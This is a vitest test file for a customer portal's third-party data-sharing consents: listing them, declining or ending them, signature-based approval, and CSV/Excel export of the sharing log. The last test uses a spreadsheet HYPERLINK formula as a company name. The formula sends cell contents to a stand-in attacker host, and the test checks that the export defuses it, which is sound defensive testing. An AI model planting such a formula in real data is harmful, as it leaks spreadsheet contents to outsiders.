// The customer's side of third-party access (seed 002, issue 6): the overview, declining and
// ending as a customer, approving through a recorded e-legitimation signature, and the sharing log
// with its export — each also tried by a Read user and by another customer, who are refused with
// nothing changed.
import ExcelJS from "exceljs";
import { beforeAll, describe, expect, it } from "vitest";
import { createCustomer, createInstallation, createUser, validSwedishPersonnummer, type CreatedUser } from "@/fixtures/factories";
import { createConsentRequest, createDataDelivery, createThirdParty } from "@/fixtures/third-party-factories";
import { splitCsvLine } from "@/domain/csv/split-line";
import { addDays, localDate, localMidnightUtc } from "@/domain/time/zoned";
import type { Customer, Installation } from "@/generated/prisma/client";
import type { CustomerActor } from "@/server/access/actor";
import { recordSignature } from "@/server/eleg/record-signature";
import { payloadHashOf } from "@/server/eleg/signing";
import { appFailure, customerActorOf } from "../../../tests/support/actors";
import { getTestDb, resetDatabase } from "../../../tests/support/db";
import { twoSharingCustomers } from "../../../tests/support/third-party";
import { APPROVE_PURPOSE, approvalText, completeConsentApproval, decidableSelect, lastValidDay, startConsentApproval } from "./approve-consent-requests";
import { declineConsentRequests, terminateConsentAsCustomer } from "./decide-as-customer";
import { exportDataDeliveries } from "./export-data-deliveries";
import { listDataDeliveries } from "./list-data-deliveries";
import { listThirdPartyAccess } from "./list-third-party-access";

const db = getTestDb();
const DAY = 86_400_000;
const TZ = "Europe/Stockholm";
const PROVIDER = "http://localhost:3901";

type Party = Awaited<ReturnType<typeof createThirdParty>>;
type Request = Awaited<ReturnType<typeof createConsentRequest>>;

let customerA: Customer, customerB: Customer;
let gridA: Installation, heatA: Installation, gridB: Installation;
let withWebhook: Party, withoutWebhook: Party;
let adminUser: CreatedUser, bUser: CreatedUser;
let adminA: CustomerActor, fullA: CustomerActor, readA: CustomerActor, gridOnlyA: CustomerActor, adminB: CustomerActor;
let personA: string, personB: string;

const recently = (days: number) => new Date(Date.now() - days * DAY);

/** A request waiting for customer A (or B) on an installation, answered by nobody yet. */
function awaiting(party: Party, installation: Installation, customer: Customer, extra: Partial<Parameters<typeof createConsentRequest>[1]> = {}) {
  return createConsentRequest(db, {
    thirdPartyId: party.id,
    installation,
    customerIdentity: customer.nationalId,
    state: "AWAITING_CUSTOMER",
    submittedAt: recently(2),
    requestedValidTo: new Date(Date.now() + 400 * DAY),
    ...extra,
  });
}

function active(party: Party, installation: Installation, customer: Customer, decidedByUserId?: string) {
  return createConsentRequest(db, {
    thirdPartyId: party.id,
    installation,
    customerIdentity: customer.nationalId,
    state: "ACTIVE",
    submittedAt: recently(30),
    decidedAt: recently(29),
    requestedValidTo: new Date(Date.now() + 300 * DAY),
    decidedByUserId,
  });
}

/** What a request looks like in the database, to compare before and after a refused call. */
async function snapshot(ids: string[]) {
  const rows = await db.consentRequest.findMany({ where: { id: { in: ids } }, select: { id: true, state: true, version: true, validTo: true, endedAt: true }, orderBy: { id: "asc" } });
  const events = await db.consentEvent.count({ where: { requestId: { in: ids } } });
  const webhooks = await db.webhookDelivery.count();
  return { rows, events, webhooks };
}

beforeAll(async () => {
  await resetDatabase();
  ({ customerA, customerB, gridA, heatA, gridB } = await twoSharingCustomers(db));
  withWebhook = await createThirdParty(db, { name: "Energismart Test AB", webhookUrl: "https://energismart.example.test/hooks" });
  withoutWebhook = await createThirdParty(db, { name: "Solkollen Test AB" });
  personA = validSwedishPersonnummer(61_001);
  personB = validSwedishPersonnummer(61_002);
  adminUser = await createUser(db, { name: "Anna Andersson", personalIdNumber: personA, memberships: [{ customerId: customerA.id, role: "ADMINISTRATOR" }] });
  adminA = await customerActorOf(adminUser);
  fullA = await customerActorOf(await createUser(db, { name: "Fia Full", memberships: [{ customerId: customerA.id, role: "FULL" }] }));
  readA = await customerActorOf(await createUser(db, { name: "Leo Läs", memberships: [{ customerId: customerA.id, role: "READ" }] }));
  gridOnlyA = await customerActorOf(await createUser(db, { name: "Gustav Grid", memberships: [{ customerId: customerA.id, role: "FULL", installationIds: [gridA.id] }] }));
  bUser = await createUser(db, { name: "Bo Bolag", personalIdNumber: personB, memberships: [{ customerId: customerB.id, role: "ADMINISTRATOR" }] });
  adminB = await customerActorOf(bUser);
});

describe("listThirdPartyAccess", () => {
  let pendingA: Request, activeA: Request, declinedA: Request, pendingB: Request;

  beforeAll(async () => {
    pendingA = await awaiting(withoutWebhook, heatA, customerA);
    activeA = await active(withoutWebhook, gridA, customerA, adminUser.id);
    declinedA = await createConsentRequest(db, { thirdPartyId: withWebhook.id, installation: gridA, customerIdentity: customerA.nationalId, state: "DECLINED", submittedAt: recently(20), decidedByUserId: adminUser.id });
    pendingB = await awaiting(withWebhook, gridB, customerB);
  });

  it("lists each customer's own requests and consents, and who may decide", async () => {
    const a = await listThirdPartyAccess(adminA);
    expect(a.pending.map((i) => i.id)).toContain(pendingA.id);
    expect(a.active.map((i) => i.id)).toContain(activeA.id);
    expect(a.inactive.map((i) => i.id)).toContain(declinedA.id);
    const all = [...a.pending, ...a.active, ...a.inactive];
    expect(all.map((i) => i.id)).not.toContain(pendingB.id);
    expect(all.every((i) => i.customer.id === customerA.id && i.canDecide)).toBe(true);
    expect(a.inactive.find((i) => i.id === declinedA.id)).toMatchObject({ state: "DECLINED", decidedByName: "Anna Andersson" });

    const b = await listThirdPartyAccess(adminB);
    expect([...b.pending, ...b.active, ...b.inactive].map((i) => i.id)).toEqual([pendingB.id]);
  });

  it("shows a Read user the same requests without the right to decide", async () => {
    const r = await listThirdPartyAccess(readA);
    expect(r.pending.map((i) => i.id)).toContain(pendingA.id);
    expect([...r.pending, ...r.active].every((i) => !i.canDecide)).toBe(true);
  });

  it("shows a user with some installations only those installations' requests", async () => {
    const g = await listThirdPartyAccess(gridOnlyA);
    const all = [...g.pending, ...g.active, ...g.inactive];
    expect(all.map((i) => i.id)).toContain(activeA.id);
    expect(all.map((i) => i.id)).not.toContain(pendingA.id);
    expect(all.every((i) => i.installation.id === gridA.id)).toBe(true);
  });
});

describe("declining and ending as a customer", () => {
  it("refuses a Read user and another customer, changing nothing", async () => {
    const pending = await awaiting(withWebhook, gridA, customerA);
    const consent = await active(withWebhook, heatA, customerA);
    const before = await snapshot([pending.id, consent.id]);

    for (const actor of [readA, adminB]) {
      expect((await appFailure(declineConsentRequests(actor, [pending.id]))).code).toMatch(/^(FORBIDDEN|NOT_FOUND)$/);
      expect((await appFailure(terminateConsentAsCustomer(actor, consent.id))).code).toMatch(/^(FORBIDDEN|NOT_FOUND)$/);
    }
    // A user who does not see the installation is no different.
    expect((await appFailure(declineConsentRequests(gridOnlyA, [consent.id]))).code).toBe("NOT_FOUND");
    expect(await snapshot([pending.id, consent.id])).toEqual(before);
  });

  it("declines several requests at once, all or nothing", async () => {
    const [one, two, three] = [await awaiting(withWebhook, gridA, customerA), await awaiting(withoutWebhook, heatA, customerA), await awaiting(withWebhook, heatA, customerA)];
    const othersRequest = await awaiting(withWebhook, gridB, customerB);
    const consent = await active(withWebhook, gridA, customerA);
    const ids = [one.id, two.id, three.id];
    const before = await snapshot([...ids, othersRequest.id, consent.id]);

    // Another customer's request among them: NOT_FOUND, and none is declined.
    expect(await appFailure(declineConsentRequests(adminA, [one.id, othersRequest.id]))).toMatchObject({ code: "NOT_FOUND" });
    // One that is no longer waiting (an active consent cannot be declined): CONFLICT, none declined.
    expect(await appFailure(declineConsentRequests(adminA, [one.id, consent.id]))).toMatchObject({ code: "CONFLICT", message: "thirdParty.errors.changed" });
    // More than eight at once, or none.
    expect(await appFailure(declineConsentRequests(adminA, [...Array.from({ length: 8 }, () => crypto.randomUUID()), one.id]))).toMatchObject({
      code: "VALIDATION",
      message: "thirdParty.errors.selectionSize",
    });
    expect(await appFailure(declineConsentRequests(adminA, []))).toMatchObject({ code: "VALIDATION" });
    expect(await snapshot([...ids, othersRequest.id, consent.id])).toEqual(before);

    expect(await declineConsentRequests(fullA, ids, { ip: "192.0.2.7" })).toBe(3);
    const after = await db.consentRequest.findMany({ where: { id: { in: ids } } });
    expect(after.every((r) => r.state === "DECLINED" && r.decidedByUserId === fullA.userId && r.decidedAt !== null && r.endedAt !== null)).toBe(true);
    expect(await db.consentEvent.count({ where: { requestId: { in: ids }, event: "decline", actorKind: "customer", actorUserId: fullA.userId } })).toBe(3);
    expect(await db.auditLog.count({ where: { action: "thirdParty.request.declined", targetId: { in: ids }, customerId: customerA.id, ipAddress: "192.0.2.7" } })).toBe(3);
    // The third parties with a webhook address are told; the other one polls its events.
    expect(await db.webhookDelivery.count({ where: { type: "consent_request.declined", thirdPartyId: withWebhook.id } })).toBe(2);
    expect(await db.webhookDelivery.count({ where: { thirdPartyId: withoutWebhook.id } })).toBe(0);
    // Declined is final.
    expect(await appFailure(declineConsentRequests(adminA, [one.id]))).toMatchObject({ code: "CONFLICT" });
  });

  it("ends an active consent at once, records who did it and tells the third party", async () => {
    const consent = await active(withWebhook, gridA, customerA, adminUser.id);
    const quiet = await active(withoutWebhook, heatA, customerA, adminUser.id);
    expect(await terminateConsentAsCustomer(adminA, consent.id)).toBe(1);
    expect(await terminateConsentAsCustomer(fullA, quiet.id)).toBe(1);

    const ended = await db.consentRequest.findUniqueOrThrow({ where: { id: consent.id } });
    expect(ended).toMatchObject({ state: "TERMINATED_BY_CUSTOMER" });
    expect(ended.endedAt!.getTime()).toBeGreaterThan(Date.now() - 60_000);
    const event = await db.consentEvent.findFirstOrThrow({ where: { requestId: consent.id }, orderBy: { id: "desc" } });
    expect(event).toMatchObject({ fromState: "ACTIVE", toState: "TERMINATED_BY_CUSTOMER", event: "terminate", actorKind: "customer", actorUserId: adminA.userId });
    const webhook = await db.webhookDelivery.findUniqueOrThrow({ where: { eventId: event.id } });
    expect(webhook).toMatchObject({ thirdPartyId: withWebhook.id, type: "consent_request.terminated_by_customer", status: "PENDING" });
    expect(webhook.payload).toMatchObject({ data: { transition: { from: "ACTIVE", to: "TERMINATED_BY_CUSTOMER", actor: "customer" } } });
    expect(await db.webhookDelivery.count({ where: { thirdPartyId: withoutWebhook.id } })).toBe(0);
    expect(await db.auditLog.count({ where: { action: "thirdParty.consent.terminated", targetId: { in: [consent.id, quiet.id] } } })).toBe(2);

    const overview = await listThirdPartyAccess(adminA);
    expect(overview.inactive.find((i) => i.id === consent.id)).toMatchObject({ state: "TERMINATED_BY_CUSTOMER" });
    expect(overview.active.map((i) => i.id)).not.toContain(consent.id);
    // Only an active consent can be ended.
    expect(await appFailure(terminateConsentAsCustomer(adminA, consent.id))).toMatchObject({ code: "CONFLICT" });
  });
});

describe("approving with an e-legitimation signature", () => {
  /** The requests as startConsentApproval loads them (the shape approvalText takes). */
  async function decidable(ids: string[]) {
    const rows = await db.consentRequest.findMany({ where: { id: { in: ids } }, select: decidableSelect });
    return ids.map((id) => rows.find((r) => r.id === id)!);
  }

  /**
   * What the signing callback stores after the user signed what startConsentApproval prepared
   * (text and data built the same way), optionally with a tampered text or data.
   */
  async function sign(user: CreatedUser, personalIdNumber: string, choices: { id: string; validTo: Date }[], tamper: { text?: (t: string) => string } = {}) {
    const requests = await decidable(choices.map((c) => c.id));
    const items = requests.map((request, i) => ({ request, validTo: choices[i]!.validTo }));
    const signedText = await approvalText("sv", items);
    const text = tamper.text ? tamper.text(signedText) : signedText;
    const data = { l: "sv", d: items.map((i) => [i.request.id, i.validTo.getTime(), i.request.version]) };
    return recordSignature({ userId: user.id, purpose: APPROVE_PURPOSE, payloadHash: payloadHashOf(text), payload: { text, data } }, { personalIdNumber, provider: PROVIDER });
  }

  /** The end of a local day as the approval form sends it (`validUntil`), in the installation's zone. */
  const endOfLocalDay = (date: string) => localMidnightUtc(addDays(date, 1), TZ);

  it("makes the signed requests ACTIVE with the validity the user chose, once", async () => {
    const one = await awaiting(withWebhook, gridA, customerA);
    const two = await awaiting(withoutWebhook, heatA, customerA);
    const shortened = endOfLocalDay(addDays(localDate(new Date(), TZ), 90));
    await sign(adminUser, personA, [
      { id: one.id, validTo: shortened },
      { id: two.id, validTo: two.requestedValidTo },
    ]);

    expect(await completeConsentApproval(adminA, { ip: "192.0.2.8" })).toEqual({ status: "approved", count: 2 });
    const [a, b] = await Promise.all([db.consentRequest.findUniqueOrThrow({ where: { id: one.id } }), db.consentRequest.findUniqueOrThrow({ where: { id: two.id } })]);
    expect(a).toMatchObject({ state: "ACTIVE", validTo: shortened, decidedByUserId: adminA.userId });
    expect(lastValidDay(a.validTo!, TZ)).toBe(addDays(localDate(new Date(), TZ), 90));
    expect(b).toMatchObject({ state: "ACTIVE", validTo: two.requestedValidTo });
    expect(a.signatureId).not.toBeNull();
    expect(b.signatureId).toBe(a.signatureId);
    expect(await db.webhookDelivery.count({ where: { type: "consent_request.active", thirdPartyId: withWebhook.id } })).toBe(1);
    expect(await db.auditLog.count({ where: { action: "thirdParty.consent.approved", targetId: { in: [one.id, two.id] }, ipAddress: "192.0.2.8" } })).toBe(2);
    const overview = await listThirdPartyAccess(adminA);
    expect(overview.active.map((i) => i.id)).toEqual(expect.arrayContaining([one.id, two.id]));

    // The same signature does not approve anything a second time.
    expect(await completeConsentApproval(adminA)).toEqual({ status: "failed", reason: "noSignature" });
  });

  it("approves nothing for a signature of a different text", async () => {
    const request = await awaiting(withWebhook, gridA, customerA);
    const before = await snapshot([request.id]);
    await sign(adminUser, personA, [{ id: request.id, validTo: request.requestedValidTo }], { text: (t) => t.replace("får hämta", "får sälja") });
    expect(await completeConsentApproval(adminA)).toEqual({ status: "failed", reason: "changed" });
    expect(await snapshot([request.id])).toEqual(before);
  });

  it("approves nothing for a signature older than 15 minutes", async () => {
    const request = await awaiting(withWebhook, gridA, customerA);
    const before = await snapshot([request.id]);
    const signature = await sign(adminUser, personA, [{ id: request.id, validTo: request.requestedValidTo }]);
    expect(await completeConsentApproval(adminA, { now: new Date(signature.signedAt.getTime() + 16 * 60_000) })).toEqual({ status: "failed", reason: "noSignature" });
    expect(await snapshot([request.id])).toEqual(before);
  });

  it("approves nothing when a request changed after the signing", async () => {
    const declinedMeanwhile = await awaiting(withWebhook, gridA, customerA);
    const keeps = await awaiting(withoutWebhook, heatA, customerA);
    await sign(adminUser, personA, [
      { id: keeps.id, validTo: keeps.requestedValidTo },
      { id: declinedMeanwhile.id, validTo: declinedMeanwhile.requestedValidTo },
    ]);
    // Another user of the customer declines one of them before the signer comes back.
    await declineConsentRequests(fullA, [declinedMeanwhile.id]);
    expect(await completeConsentApproval(adminA)).toEqual({ status: "failed", reason: "changed" });
    expect((await db.consentRequest.findUniqueOrThrow({ where: { id: keeps.id } })).state).toBe("AWAITING_CUSTOMER");

    // A request whose version moved on (any transition or edit) is "changed" too.
    const bumped = await awaiting(withWebhook, heatA, customerA);
    await sign(adminUser, personA, [{ id: bumped.id, validTo: bumped.requestedValidTo }]);
    await db.consentRequest.update({ where: { id: bumped.id }, data: { version: { increment: 1 } } });
    expect(await completeConsentApproval(adminA)).toEqual({ status: "failed", reason: "changed" });
    expect((await db.consentRequest.findUniqueOrThrow({ where: { id: bumped.id } })).state).toBe("AWAITING_CUSTOMER");
  });

  it("refuses another customer and a Read user, before and after a signing", async () => {
    const request = await awaiting(withWebhook, gridA, customerA);
    const before = await snapshot([request.id]);
    // Refused before anything is sent to the e-legitimation provider.
    expect(await appFailure(startConsentApproval(adminB, [{ requestId: request.id }], "sv"))).toMatchObject({ code: "NOT_FOUND" });
    expect(await appFailure(startConsentApproval(readA, [{ requestId: request.id }], "sv"))).toMatchObject({ code: "NOT_FOUND" });
    // Even a signature of the right text by someone else approves nothing.
    await sign(bUser, personB, [{ id: request.id, validTo: request.requestedValidTo }]);
    expect(await completeConsentApproval(adminB)).toEqual({ status: "failed", reason: "changed" });
    expect(await snapshot([request.id])).toEqual(before);
  });

  it("refuses a validity shorter than today", async () => {
    const request = await awaiting(withWebhook, gridA, customerA);
    const yesterday = addDays(localDate(new Date(), TZ), -1);
    expect(await appFailure(startConsentApproval(adminA, [{ requestId: request.id, validUntil: yesterday }], "sv"))).toMatchObject({
      code: "VALIDATION",
      fieldErrors: { [`validUntil_${request.id}`]: ["thirdParty.errors.validUntil"] },
    });
  });
});

describe("the sharing log", () => {
  let gridConsent: Request, heatConsent: Request, bConsent: Request;
  // Deliveries at known instants: 2026-03-01 23:30 UTC is 2026-03-02 00:30 in Stockholm.
  const at = (iso: string) => new Date(iso);

  beforeAll(async () => {
    await db.dataDelivery.deleteMany();
    gridConsent = await active(withWebhook, gridA, customerA);
    heatConsent = await active(withoutWebhook, heatA, customerA);
    bConsent = await active(withWebhook, gridB, customerB);
    for (const [i, iso] of ["2026-02-27T05:00:00Z", "2026-02-28T05:00:00Z", "2026-03-01T23:30:00Z", "2026-03-03T05:00:00Z"].entries()) {
      await createDataDelivery(db, { request: gridConsent, deliveredAt: at(iso), periodFrom: addDays("2026-02-20", i), periodTo: addDays("2026-02-21", i), valueCount: 24 });
    }
    await createDataDelivery(db, { request: heatConsent, deliveredAt: at("2026-03-02T06:00:00Z"), periodFrom: "2026-02-01", periodTo: "2026-03-01", valueCount: 28, resolution: "P1D" });
    await createDataDelivery(db, { request: bConsent, deliveredAt: at("2026-03-02T07:00:00Z"), periodFrom: "2026-03-01", periodTo: "2026-03-02", valueCount: 24 });
  });

  it("lists the customer's deliveries newest first, with the choices for the filters", async () => {
    const log = await listDataDeliveries(adminA);
    expect(log.total).toBe(5);
    expect(log.items.map((d) => d.deliveredAt.toISOString())).toEqual([
      "2026-03-03T05:00:00.000Z",
      "2026-03-02T06:00:00.000Z",
      "2026-03-01T23:30:00.000Z",
      "2026-02-28T05:00:00.000Z",
      "2026-02-27T05:00:00.000Z",
    ]);
    expect(log.items[1]).toMatchObject({ thirdParty: { name: withoutWebhook.name }, installation: { id: heatA.id }, periodFrom: "2026-02-01", periodLastDay: "2026-02-28", resolution: "P1D", valueCount: 28 });
    expect(log.companies.map((c) => c.id).sort()).toEqual([withWebhook.id, withoutWebhook.id].sort());
    expect(log.installations.map((i) => i.id).sort()).toEqual([gridA.id, heatA.id].sort());
    // A Read user sees the log too; a user with one installation only its deliveries.
    expect((await listDataDeliveries(readA)).total).toBe(5);
    const gridOnly = await listDataDeliveries(gridOnlyA);
    expect(gridOnly.total).toBe(4);
    expect(gridOnly.installations.map((i) => i.id)).toEqual([gridA.id]);
  });

  it("filters by company, installation and Stockholm delivery dates", async () => {
    expect((await listDataDeliveries(adminA, { company: withoutWebhook.id })).items.map((d) => d.installation.id)).toEqual([heatA.id]);
    expect((await listDataDeliveries(adminA, { installation: gridA.id })).total).toBe(4);
    // 23:30 UTC on 1 March is 2 March in Stockholm.
    const second = await listDataDeliveries(adminA, { from: "2026-03-02", to: "2026-03-02" });
    expect(second.items.map((d) => d.deliveredAt.toISOString()).sort()).toEqual(["2026-03-01T23:30:00.000Z", "2026-03-02T06:00:00.000Z"]);
    expect((await listDataDeliveries(adminA, { to: "2026-02-28" })).total).toBe(2);
    expect((await listDataDeliveries(adminA, { installation: gridA.id, from: "2026-03-01" })).total).toBe(2);
    expect(await appFailure(listDataDeliveries(adminA, { from: "2026-03-05", to: "2026-03-01" }))).toMatchObject({ code: "VALIDATION", fieldErrors: { to: ["thirdParty.log.errors.dateOrder"] } });
    expect(await appFailure(listDataDeliveries(adminA, { from: "2026-02-30" }))).toMatchObject({ code: "VALIDATION", fieldErrors: { from: ["thirdParty.log.errors.date"] } });
    expect(await appFailure(listDataDeliveries(adminA, { company: "nonsense" }))).toMatchObject({ code: "VALIDATION" });
  });

  it("pages through the log; a page past the end shows the last page", async () => {
    const pages = await Promise.all([1, 2, 3].map((page) => listDataDeliveries(adminA, {}, { page, pageSize: 2 })));
    expect(pages.map((p) => p.items.length)).toEqual([2, 2, 1]);
    expect(pages[0]!).toMatchObject({ total: 5, pageCount: 3, page: 1 });
    expect(new Set(pages.flatMap((p) => p.items.map((d) => d.id))).size).toBe(5);
    expect(await listDataDeliveries(adminA, {}, { page: 9, pageSize: 2 })).toMatchObject({ page: 3, items: [{ id: pages[2]!.items[0]!.id }] });
  });

  it("keeps another customer out", async () => {
    const b = await listDataDeliveries(adminB);
    expect(b.items.map((d) => d.customer.id)).toEqual([customerB.id]);
    expect(b.companies.map((c) => c.id)).toEqual([withWebhook.id]);
    expect(await appFailure(listDataDeliveries(adminB, { installation: gridA.id }))).toMatchObject({ code: "NOT_FOUND" });
    expect(await appFailure(listDataDeliveries(adminB, { customer: customerA.id }))).toMatchObject({ code: "NOT_FOUND" });
    expect(await appFailure(listDataDeliveries(gridOnlyA, { installation: heatA.id }))).toMatchObject({ code: "NOT_FOUND" });
    // Naming A's company gives B only B's own deliveries from it.
    expect((await listDataDeliveries(adminB, { company: withoutWebhook.id })).total).toBe(0);
  });

  it("exports the filtered log as CSV with the right rows", async () => {
    const file = await exportDataDeliveries(adminA, { installation: gridA.id, from: "2026-03-01" }, { format: "csv", lang: "sv", now: new Date("2026-03-10T12:00:00Z") });
    expect(file).toMatchObject({ fileName: "delningslogg-2026-03-10.csv", contentType: "text/csv; charset=utf-8" });
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(file.body);
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const lines = text.slice(1).trimEnd().split("\r\n");
    expect(lines[0]).toBe(
      "Hämtat (Europe/Stockholm);Hämtat, UTC;Företag;Organisationsnummer;Kundnummer;Anläggning;Adress;Anläggnings-id;Mätvärden från och med;Mätvärden till och med;Upplösning;Antal värden",
    );
    expect(lines).toHaveLength(3);
    const [newest, older] = [lines[1]!.split(";"), lines[2]!.split(";")];
    expect(newest.slice(0, 6)).toEqual(["2026-03-03 06:00", "2026-03-03T05:00:00.000Z", withWebhook.name, expect.stringMatching(/^\d{6}-\d{4}$/), customerA.customerNumber, "Villa – el"]);
    expect(newest[7]).toMatch(/^\d{6} \d{4} \d{4} \d{4}$/);
    expect(newest.slice(8)).toEqual(["2026-02-23", "2026-02-23", "Timvärden", "24"]);
    expect(older.slice(0, 2)).toEqual(["2026-03-02 00:30", "2026-03-01T23:30:00.000Z"]);

    const english = new TextDecoder("utf-8", { ignoreBOM: true }).decode((await exportDataDeliveries(adminA, { company: withoutWebhook.id }, { format: "csv", lang: "en" })).body);
    const englishLines = english.slice(1).trimEnd().split("\r\n");
    // "Fetched, UTC" holds the separator, so it is quoted.
    expect(englishLines[0]).toMatch(/^Fetched \(Europe\/Stockholm\),"Fetched, UTC",Company,Organisation number,/);
    expect(englishLines).toHaveLength(2);
    expect(englishLines[1]).toContain("Daily values");
  });

  it("exports Excel with the same rows", async () => {
    const file = await exportDataDeliveries(readA, {}, { format: "xlsx", lang: "sv" });
    expect(file.fileName).toMatch(/^delningslogg-\d{4}-\d{2}-\d{2}\.xlsx$/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file.body as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe("Delningslogg");
    expect(sheet.rowCount).toBe(6);
    expect(sheet.getRow(2).getCell(1).value).toBe("2026-03-03 06:00");
    expect(sheet.getRow(2).getCell(12).value).toBe(24);
  });

  it("refuses another customer's export", async () => {
    expect(await appFailure(exportDataDeliveries(adminB, { installation: gridA.id }, { format: "csv", lang: "sv" }))).toMatchObject({ code: "NOT_FOUND" });
    expect(await appFailure(exportDataDeliveries(adminB, { customer: customerA.id }, { format: "xlsx", lang: "sv" }))).toMatchObject({ code: "NOT_FOUND" });
    const own = new TextDecoder().decode((await exportDataDeliveries(adminB, {}, { format: "csv", lang: "sv" })).body);
    expect(own.trimEnd().split("\r\n")).toHaveLength(2);
    expect(own).not.toContain(customerA.customerNumber);
    expect(own).not.toContain("Villa");
  });
});

describe("the sharing log export opened in a spreadsheet", () => {
  const HYPERLINK = '=HYPERLINK("http://angripare.example/?d="&A1;"Klicka här")';

  it("neutralises a company or installation name that would run as a formula, keeps numbers numbers, and Excel cells text", async () => {
    const customer = await createCustomer(db, { kind: "PRIVATE", name: "Cilla Csv" });
    const installation = await createInstallation(db, { customerId: customer.id, type: "ELECTRICITY_GRID", name: "@SUM(1+1)", street: "-1 Gatan 1" });
    const admin = await customerActorOf(await createUser(db, { name: "Cilla Csv", memberships: [{ customerId: customer.id, role: "ADMINISTRATOR" }] }));
    const party = await createThirdParty(db, { name: HYPERLINK });
    const consent = await active(party, installation, customer);
    await createDataDelivery(db, { request: consent, deliveredAt: new Date("2026-03-02T07:00:00Z"), periodFrom: "2026-03-01", periodTo: "2026-03-02", valueCount: 24 });

    const csv = new TextDecoder("utf-8", { ignoreBOM: true }).decode((await exportDataDeliveries(admin, {}, { format: "csv", lang: "sv" })).body);
    const row = splitCsvLine(csv.slice(1).trimEnd().split("\r\n")[1]!, ";");
    expect(row[2]).toBe(`'${HYPERLINK}`);
    expect(row[5]).toBe("'@SUM(1+1)");
    expect(row[6]).toMatch(/^'-1 Gatan 1, /);
    expect(row[11]).toBe("24");

    const xlsx = await exportDataDeliveries(admin, {}, { format: "xlsx", lang: "sv" });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.body as unknown as ArrayBuffer);
    const cells = workbook.worksheets[0]!.getRow(2);
    // A string cell shows the name as it is; only a formula cell would run it.
    expect(cells.getCell(3).type).toBe(ExcelJS.ValueType.String);
    expect(cells.getCell(3).value).toBe(HYPERLINK);
    expect(cells.getCell(6).value).toBe("@SUM(1+1)");
    expect(cells.getCell(12).value).toBe(24);
  });
});
